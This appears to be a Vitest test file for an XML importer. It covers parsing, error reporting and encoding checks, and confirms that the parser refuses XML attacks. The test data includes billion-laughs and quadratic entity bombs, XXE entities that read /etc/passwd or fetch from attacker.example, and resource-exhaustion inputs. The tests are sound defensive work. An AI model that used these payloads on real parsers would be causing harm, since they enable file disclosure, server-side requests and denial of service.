import fc from 'fast-check'
import { XMLBuilder } from 'fast-xml-parser'
import { describe, expect, it } from 'vitest'
import type { Issue } from '../../../../electron/contract/errors.ts'
import {
  attribute,
  decodeXml,
  descendants,
  element,
  elementAt,
  elements,
  parseXml,
  textAt,
  textOf,
  XML_LIMITS,
  type XmlElement,
} from '../../../../electron/importers/xml/index.ts'

function read(text: string): XmlElement {
  const parsed = parseXml('a.xml', text)
  if (!parsed.ok) expect.fail(JSON.stringify(parsed.error))
  return parsed.value.root
}

function refusal(text: string): Issue {
  const parsed = parseXml('a.xml', text)
  if (parsed.ok) expect.fail(`read: ${text.slice(0, 100)}`)
  expect(parsed.error.where.file).toBe('a.xml')
  return parsed.error
}

describe('a document', () => {
  it('is read with text, attributes, CDATA and references; comments and instructions are left out', () => {
    const root = read(
      '\ufeff<?xml version="1.0"?>\n<!DOCTYPE q SYSTEM "http://example.com/q.dtd">\n<!-- c -->\n' +
        `<x:q xmlns:x="u" id=" a&amp;b " t='x > y'>one &lt; two <b>&#233;&#x20AC;&nbsp;</b><![CDATA[<i>&amp;</i>]]><e/></x:q>\n`,
    )
    expect(root.name).toBe('q')
    expect([...root.attributes]).toEqual([
      ['id', ' a&b '],
      ['t', 'x > y'],
    ])
    expect(attribute(root, 'id')).toBe('a&b')
    expect(textOf(root)).toBe('one < two é€\u00a0<i>&amp;</i>')
    expect(elements(root).map(({ name }) => name)).toEqual(['b', 'e'])
    expect(element(root, 'e')?.children).toEqual([])
  })

  it('is searched by children, paths and descendants', () => {
    const root = read('<a><b><c>1</c></b><b><c> 2 </c><d><c>3</c></d></b></a>')
    expect(elements(root, 'b')).toHaveLength(2)
    expect(textAt(root, 'b', 'c')).toBe('1')
    expect(elementAt(root, 'b', 'x', 'c')).toBeUndefined()
    expect(descendants(root, 'c').map(textOf)).toEqual(['1', ' 2 ', '3'])
    expect(descendants(root, 'c')[1]?.offset).toBe(21)
  })

  it('is read as it was written, whatever its texts', () => {
    const name = fc
      .stringMatching(/^[A-Za-z_][\w.-]{0,8}$/)
      .filter((text) => !/^(xml|__proto__|constructor)/i.test(text))
    const words = fc.string({ minLength: 1 }).filter((text) => !/[\p{Cc}\ufffe\uffff]/u.test(text))
    const builder = new XMLBuilder({ preserveOrder: true, ignoreAttributes: false, attributeNamePrefix: '' })
    fc.assert(
      fc.property(name, words, fc.array(fc.tuple(name, words), { maxLength: 5 }), (root, value, children) => {
        const tree = [{ [root]: children.map(([child, text]) => ({ [child]: [{ '#text': text }] })), ':@': { value } }]
        const parsed = read(builder.build(tree))
        expect(parsed.attributes.get('value')).toBe(value)
        expect(elements(parsed).map((child) => [child.name, textOf(child)])).toEqual(children)
      }),
    )
  })
})

describe('a document that is not well formed is refused with its place', () => {
  it.each([
    ['', 1, 'The document holds no element.'],
    ['words', 1, 'outside'],
    ['<a>\n<b></a>', 2, 'b is not closed here'],
    ['<a>\n\n', 3, 'a is not closed'],
    ['<a/>\n<b/>', 2, 'more than one element'],
    ['<a/> more', 1, 'outside'],
    ['</a>', 1, 'was not opened'],
    ['<a', 1, 'does not end'],
    ['<a b></a>', 1, 'no value'],
    ['<a b=1/>', 1, 'without quotes'],
    ['<a b="1" b="2"/>', 1, 'stands twice'],
    ['<a b="1"c="2"/>', 1, 'blank is missing'],
    ['<a b="<"/>', 1, 'opening bracket'],
    ['<a b="x/>', 1, 'not closed'],
    ['<a>\n x & y</a>', 2, 'An & stands alone'],
    ['<a>x < y</a>', 1, 'well-formed'],
    ['<a><![CDATA[x</a>', 1, 'CDATA section does not end'],
    ['<a><!-- x</a>', 1, 'comment does not end'],
    ['<?xml <a/>', 1, 'instruction does not end'],
    ['<a></a b>', 1, 'closing tag'],
    ['<a><!DOCTYPE x></a>', 1, 'well-formed'],
    ['<![CDATA[x]]><a/>', 1, 'outside'],
    ['<!DOCTYPE a "x', 1, 'does not end'],
  ])('%j', (text, line, message) => {
    const issue = refusal(text)
    expect(issue).toMatchObject({ severity: 'error', code: 'xml', where: { line } })
    expect(issue.message).toContain(message)
    expect(issue.expected).toBeTruthy()
    expect(issue.found).toBeTruthy()
  })
})

describe('attacks by XML', () => {
  const laughs = [
    '<!DOCTYPE lolz [',
    '<!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at || ''};`.repeat(10)}">`),
    ']>',
    '<lolz>&lol9;</lolz>',
  ].join('\n')

  it.each([
    ['billion laughs', laughs, 'xml-entities', 'lol'],
    [
      'quadratic blow-up',
      `<!DOCTYPE a [<!ENTITY x "${'A'.repeat(50_000)}">]><a>${'&x;'.repeat(1000)}</a>`,
      'xml-entities',
      'x',
    ],
    ['a file', '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>', 'xml-external-entity', 'xxe'],
    [
      'an address',
      '<!DOCTYPE a [<!ENTITY xxe PUBLIC "x" "http://attacker.example/">]><a>&xxe;</a>',
      'xml-external-entity',
      'xxe',
    ],
    [
      'a parameter entity',
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><a/>',
      'xml-external-entity',
      'p',
    ],
    ['definitions without entities', '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>', 'xml-dtd', null],
    ['an entity that nobody defines', '<a>\n&secret;</a>', 'xml-entity', '&secret;'],
    ['an entity in a value', '<a b="&secret;"/>', 'xml-entity', '&secret;'],
    ['a character that is none', '<a>&#0;</a>', 'xml-entity', '&#0;'],
    ['half a character', '<a>&#xD800;</a>', 'xml-entity', '&#xD800;'],
    ['elements inside one another', '<a>'.repeat(200_000), 'xml-depth', null],
    [
      'attributes without end',
      `<a ${Array.from({ length: 200 }, (_, at) => `a${at}="1"`).join(' ')}/>`,
      'xml-attributes',
      null,
    ],
    [
      'namespaces without end',
      `<a ${Array.from({ length: 200 }, (_, at) => `xmlns:a${at}="1"`).join(' ')}/>`,
      'xml-attributes',
      null,
    ],
    ['a name without end', `<${'a'.repeat(100_000)}/>`, 'xml-name-length', '100000 characters'],
  ])('%s: refused by name', (_what, text, code, found) => {
    const issue = refusal(text)
    expect(issue.code).toBe(code)
    if (found !== null) expect(issue.found).toBe(found)
    expect(issue.where.line).toBeGreaterThan(0)
  })

  it('elements without end', () => {
    expect(refusal(`<a>${'<b/>'.repeat(XML_LIMITS.elements)}</a>`).code).toBe('xml-elements')
  })

  it('names that objects have by themselves are names like others', () => {
    const root = read('<a __proto__="x" constructor="y"><__proto__>z</__proto__></a>')
    expect(textAt(root, '__proto__')).toBe('z')
    expect(attribute(root, 'constructor')).toBe('y')
    expect(attribute(root, 'toString')).toBe('')
  })
})

describe('the encoding of a document', () => {
  const bytes = (declared: string, content: Buffer) =>
    Buffer.concat([Buffer.from(`<?xml version="1.0" encoding="${declared}"?>\r\n<a>`), content, Buffer.from('</a>')])
  const decoded = (data: Uint8Array) => {
    const text = decodeXml(data, 'a.xml')
    return text.ok ? textOf(read(text.value)) : text.error[0]
  }

  it('is the one that it declares', () => {
    expect(decoded(bytes('ISO-8859-1', Buffer.from('é', 'latin1')))).toBe('é')
    expect(decoded(bytes('UTF-8', Buffer.from('é')))).toBe('é')
    expect(decoded(bytes('windows-1251', Buffer.from([0xcf])))).toBe('П')
    expect(decoded(Buffer.from('\ufeff<a>é</a>', 'utf16le'))).toBe('é')
  })

  it('is refused when the bytes are not in it', () => {
    expect(decoded(bytes('UTF-8', Buffer.from('é', 'latin1')))).toMatchObject({ code: 'encoding' })
    expect(decoded(bytes('shift_jis', Buffer.from([0xff, 0xff])))).toMatchObject({ code: 'encoding' })
  })
})
